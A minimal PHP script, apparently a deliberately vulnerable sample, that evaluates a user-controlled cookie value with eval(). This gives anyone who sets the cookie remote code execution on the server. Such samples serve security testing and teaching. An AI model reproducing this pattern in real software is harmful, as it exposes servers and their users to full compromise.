<?php
function calc($expr) { return eval("return $expr;"); }
echo (int) calc($_COOKIE['expr']);
